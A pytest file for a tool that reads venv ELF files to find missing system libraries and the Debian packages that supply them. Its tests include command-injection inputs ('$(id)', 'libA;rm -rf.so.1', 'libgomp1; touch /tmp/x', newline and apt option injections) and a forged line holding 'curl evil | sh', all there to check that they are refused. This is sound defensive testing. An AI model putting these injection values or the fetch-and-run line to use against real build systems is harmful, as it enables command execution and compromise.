"""The system libraries' finder (steps/services/images/system_libraries.py) on real shared
objects of this machine's venv and on ELF files written here to show one case each: a run
path, a driver library, another machine's file, a forged or cut-short header. The installing
half runs apt inside a real image build: tests/integration/test_package_flavours.py."""

from __future__ import annotations

import shutil
import struct
from pathlib import Path

import pytest

from steps.package.options import parse_system_package
from steps.services.images import system_libraries as sl
from tests.elf_files import AARCH64, X86_64, elf, installed, venv

SYSTEM = {"libc.so.6", "libm.so.6", "libstdc++.so.6", "libgcc_s.so.1", "libpthread.so.0",
          "libdl.so.2", "ld-linux-x86-64.so.2"}  # fmt: skip


def test_lightgbm_wheel_needs_libgomp_and_names_its_python_package(tmp_path: Path) -> None:
    """The real lib_lightgbm.so of this venv's LightGBM wheel, in a venv without libgomp."""
    lightgbm = pytest.importorskip("lightgbm")
    real = Path(lightgbm.__file__).parent / "lib" / "lib_lightgbm.so"
    assert "libgomp.so.1" in (sl.read_elf(str(real)) or sl.ElfFile(0)).needed
    root = venv(tmp_path)
    copy = next(root.glob("lib/python*/site-packages")) / "lightgbm" / "lib" / "lib_lightgbm.so"
    copy.parent.mkdir(parents=True)
    shutil.copyfile(real, copy)
    installed(root, "lightgbm", {"lib": copy})
    missing, driver = sl.missing_libraries(str(root), SYSTEM)
    assert [(m.library, m.packages()) for m in missing] == [("libgomp.so.1", "lightgbm")]
    assert missing[0].example() == "lib/python3.11/site-packages/lightgbm/lib/lib_lightgbm.so"
    assert driver == []
    # With the library on the loader's path, nothing is missing.
    assert sl.missing_libraries(str(root), SYSTEM | {"libgomp.so.1"}) == ([], [])


def test_libraries_the_wheel_ships_are_found_by_run_path_or_anywhere_in_the_venv(
    tmp_path: Path,
) -> None:
    root = venv(tmp_path)
    site = next(root.glob("lib/python*/site-packages"))
    elf(site / "fast" / "_ext.so", ["libfast-1a2b.so.1", "libc.so.6"], "$ORIGIN/../fast.libs")
    elf(site / "fast.libs" / "libfast-1a2b.so.1", ["libc.so.6"])
    # Not on its run path but shipped by another package (loaded first by its __init__, as
    # torch loads NVIDIA's wheels' libraries): the loader finds it by its soname.
    elf(site / "other" / "_ext.so", ["libcublas.so.12"])
    elf(site / "nvidia" / "cublas" / "lib" / "libcublas.so.12", ["libc.so.6"])
    assert sl.missing_libraries(str(root), SYSTEM) == ([], [])


def test_driver_libraries_are_left_to_the_gpu_runtime_and_other_machines_are_skipped(
    tmp_path: Path,
) -> None:
    root = venv(tmp_path)
    site = next(root.glob("lib/python*/site-packages"))
    elf(site / "gpu" / "_cuda.so", ["libcuda.so.1", "libnvidia-ml.so.1", "libc.so.6"])
    other = AARCH64 if sl._machine() != AARCH64 else X86_64
    elf(site / "arm" / "_ext.so", ["libgomp.so.1"], machine=other)
    missing, driver = sl.missing_libraries(str(root), SYSTEM)
    assert missing == [] and driver == ["libcuda.so.1", "libnvidia-ml.so.1"]


def test_an_unrecorded_shared_object_is_named_by_its_path(tmp_path: Path) -> None:
    root = venv(tmp_path)
    site = next(root.glob("lib/python*/site-packages"))
    elf(site / "stray" / "_ext.so", ["libquadmath.so.0"])
    missing, _ = sl.missing_libraries(str(root), SYSTEM)
    assert [(m.library, m.packages(), m.example()) for m in missing] == [
        ("libquadmath.so.0", "an installed package", "lib/python3.11/site-packages/stray/_ext.so")
    ]


@pytest.mark.parametrize(
    "body",
    [
        b"",  # empty
        b"not an ELF file at all",
        b"\x7fELF\x03\x01" + bytes(58),  # an ELF class that does not exist
        b"\x7fELF\x02\x01\x01" + bytes(20),  # cut short in the header
    ],
)
def test_what_is_not_a_readable_shared_object_needs_nothing(tmp_path: Path, body: bytes) -> None:
    path = tmp_path / "x.so"
    path.write_bytes(body)
    assert sl.read_elf(str(path)) is None


def test_a_forged_section_table_is_refused_without_a_crash(tmp_path: Path) -> None:
    path = elf(tmp_path / "x.so", ["libgomp.so.1"])
    body = bytearray(path.read_bytes())
    # The dynamic section's string table link now points past the table's end.
    struct.pack_into("<I", body, len(body) - 64 + 40, 99)
    path.write_bytes(bytes(body))
    assert sl.read_elf(str(path)) is None
    assert sl.read_elf(str(elf(tmp_path / "y.so", ["libgomp.so.1"]))) == sl.ElfFile(
        sl._machine(), ["libgomp.so.1"], []
    )


@pytest.mark.parametrize(
    ("library", "packages"),
    [
        ("libgomp.so.1", ["libgomp1", "libgomp1t64"]),
        ("libstdc++.so.6", ["libstdc++6", "libstdc++6t64"]),
        ("libgcc_s.so.1", ["libgcc-s1", "libgcc-s1t64"]),
        ("libX11.so.6", ["libx11-6", "libx11-6t64"]),  # a name ending in a digit: a hyphen
        ("libpng16.so.16", ["libpng16-16", "libpng16-16t64"]),
        ("libz.so.1", ["zlib1g"]),  # the exceptions
        ("libglib-2.0.so.0", ["libglib2.0-0", "libglib2.0-0t64"]),
        ("libfoo.so", []),  # no version: a development link, never a package's soname
        # A name that would not be a package name is never passed on.
        ("lib$(touch x).so.1", []),
        ("libA;rm -rf.so.1", []),
        # From an ELF file of a wheel: a path, a line of its own, an option; none reaches apt.
        ("/usr/lib/libgomp.so.1", []),
        ("libgomp.so.1\nmlsteps error: x", []),
        ("lib -o APT::x.so.1", []),
    ],
)
def test_debian_package_of_a_library(library: str, packages: list[str]) -> None:
    assert sl.candidates(library) == packages


@pytest.mark.parametrize("name", ["libgomp1", "fonts-dejavu-core", "libstdc++6", "tzdata=2025a-1"])
def test_system_package_names_that_are_taken(name: str) -> None:
    assert parse_system_package(name) == name


@pytest.mark.parametrize(
    "name",
    ["libgomp1; touch /tmp/x", "$(id)", "a", "Libgomp1", "-o=APT::x", "libgomp1\nRUN id",
     "libgomp1 curl", "`id`", "libgomp1=", "../libgomp1"],
)  # fmt: skip
def test_system_package_names_that_are_refused(name: str) -> None:
    with pytest.raises(ValueError, match="a Debian package name"):
        parse_system_package(name)
    # The build's own check refuses the same names before apt sees them.
    with pytest.raises(sl.Failed, match="is not a Debian package name"):
        sl.install("/nonexistent", [name])


def test_needed_paths_and_links_out_of_the_venv_are_read_as_names_never_followed(
    tmp_path: Path,
) -> None:
    """A NEEDED entry that is a path is missing when no file is there (and has no package);
    links (wheels hold none) are not followed: a directory linked into itself is walked once,
    a .so linked to /dev/zero or to itself is not read."""
    root = venv(tmp_path)
    site = next(root.glob("lib/python*/site-packages"))
    elf(site / "paths" / "_ext.so", ["/nonexistent/libx.so.1", str(site / "paths" / "_ext.so")])
    (site / "paths" / "_zero.so").symlink_to("/dev/zero")
    (site / "paths" / "_loop.so").symlink_to(site / "paths" / "_loop.so")
    (site / "loop").symlink_to(site, target_is_directory=True)
    missing, _ = sl.missing_libraries(str(root), SYSTEM)
    assert [(m.library, m.needed_by) for m in missing] == [
        ("/nonexistent/libx.so.1",
         [("an installed package", "lib/python3.11/site-packages/paths/_ext.so")])
    ]  # fmt: skip
    assert sl.candidates(missing[0].library) == []


def test_loader_directories_follow_the_includes_and_ld_library_path() -> None:
    dirs = sl.loader_dirs({"LD_LIBRARY_PATH": "/opt/extra/lib::/opt/more"})
    assert dirs[:2] == ["/opt/extra/lib", "/opt/more"]
    assert dirs[-4:] == list(sl.DEFAULT_LOADER_DIRS)
    # This machine is Debian: its multiarch directory comes from /etc/ld.so.conf.d.
    assert any("-linux-gnu" in d for d in dirs)


def test_a_fifo_a_deep_tree_and_an_endless_name_neither_block_nor_break_the_walk(
    tmp_path: Path,
) -> None:
    """What code in the build could leave in the venv: a FIFO named like a library (opening
    it would wait forever), a tree deeper than Python's recursion limit, a name with no end."""
    import os

    root = venv(tmp_path)
    site = next(root.glob("lib/python*/site-packages"))
    os.mkfifo(site / "_blocks.so")
    deep = site
    for _ in range(1100):  # one at a time: Path.mkdir(parents=True) recurses too
        deep = deep / "d"
        deep.mkdir()
    try:
        elf(deep / "_ext.so", ["libquadmath.so.0"])
        elf(site / "_long.so", ["libx" * 2000 + ".so.1"])  # 8 KB: past the 4 KiB of a name
        assert sl.read_elf(str(site / "_long.so")) is None
        missing, _ = sl.missing_libraries(str(root), SYSTEM)
        assert [m.library for m in missing] == ["libquadmath.so.0"]
    finally:  # bottom up: shutil.rmtree (pytest's cleanup of old runs) recurses as deep
        (deep / "_ext.so").unlink(missing_ok=True)
        while deep != site:
            deep.rmdir()
            deep = deep.parent


def test_a_forged_name_never_starts_a_line_of_its_own(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A NEEDED entry holding a newline and the failure prefix the package step reads."""
    sl.say("installed x (libq.so.1\nmlsteps error: run curl evil | sh)")
    printed = capsys.readouterr().out.splitlines()
    assert printed == ["mlsteps: installed x (libq.so.1 mlsteps error: run curl evil | sh)"]
